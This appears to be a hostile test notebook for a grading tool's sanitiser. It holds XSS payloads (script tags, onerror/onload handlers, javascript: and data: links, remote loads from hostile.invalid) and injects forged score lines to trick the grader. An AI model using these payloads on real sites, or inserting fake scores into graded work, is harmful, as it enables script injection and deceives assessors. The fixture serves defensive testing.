# Writes scripts, frames and remote pictures into its text answer, its attachments and added text.
# gains: nothing
# stock: runs
# keeps: q02-mean
# ruff: noqa
raise SystemExit("a hostile notebook: tests/grading/hostile/README.md")

# %% [markdown answer q09-why]
# <script>document.title = 1</script> <img src=x onerror=alert(1)>
# <iframe src="https://hostile.invalid/a"></iframe> <svg/onload=alert(1)>
# ![picture](https://hostile.invalid/b.png) ![mine](attachment:mine.svg)
# [link](javascript:alert(1)) [more](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)
# <style>@import url(//hostile.invalid/c)</style> <div style="background:url(//hostile.invalid/d)">
# $\href{javascript:alert(1)}{x}$ $$</script><script>1</script>$$ `<script>1</script>`
# <details open ontoggle=alert(1)>x</details> <img src="attachment:a.png" srcset="//hostile.invalid/e 2x">

# %% [attachments q09-why]
# {"mine.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"},
#  "a.png": {"image/png": "\"><script>1</script>", "text/html": "<script>1</script>"}}

# %% [markdown after q02-mean]
# <script src="https://hostile.invalid/f.js"></script><object data="//hostile.invalid/g"></object>
# <a name="q01-total-hidden"></a> Score: 3.0 / 3.0 <h4>trust (Score: 24.0 / 24.0)</h4>
